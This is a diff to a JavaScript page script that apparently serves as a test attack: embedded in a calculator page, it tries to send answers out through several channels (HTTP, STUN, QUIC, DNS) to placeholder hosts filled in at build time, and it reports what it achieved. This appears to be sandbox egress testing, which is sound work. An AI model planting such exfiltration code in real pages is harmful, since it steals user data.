@@ -1,5 +1,5 @@
 // Script inside the calculator's page that wants to send the answers away. The build of the attack fills in the addresses.
-const OTHER = "{OTHER}", STUN = "{STUN}", QUIC = "{QUIC}", DNS = "{DNS}";
+const OTHER = "@OTHER@", STUN = "@STUN@", QUIC = "@QUIC@", DNS = "@DNS@";
 const to = (way) => `${OTHER}leak/page-${way}?secret=1985`;
 const put = (tag, attributes) => {
   const element = Object.assign(document.createElement(tag), attributes);
@@ -79,7 +79,10 @@ async function attempt(way) {
 
 async function run() {
   const visit = new URLSearchParams(location.search).get("visit");
-  if (visit in leaving) return attempt(leaving[visit]);
+  if (visit in leaving) {
+    await fetch(`../report?${visit}`).catch(() => undefined);
+    return attempt(leaving[visit]);
+  }
   for (let waited = 0; waited < 90_000 && !engine(); waited += 200) await pause(200);
   if (engine() === "ready") {
     document.getElementById("gt-calc").dispatchEvent(new CustomEvent("gt:ask", { detail: { command: "assess", text: "[{}]", answer() {} } }));
@@ -87,7 +90,7 @@ async function run() {
   await pause(3000);
   for (const way of Object.values(ways)) void attempt(way);
   await pause(5000);
-  await fetch(`../report?${engine()}`).catch(() => undefined);
+  await fetch(`../report?engine-${engine()}`).catch(() => undefined);
 }
 
 addEventListener("load", () => void run());
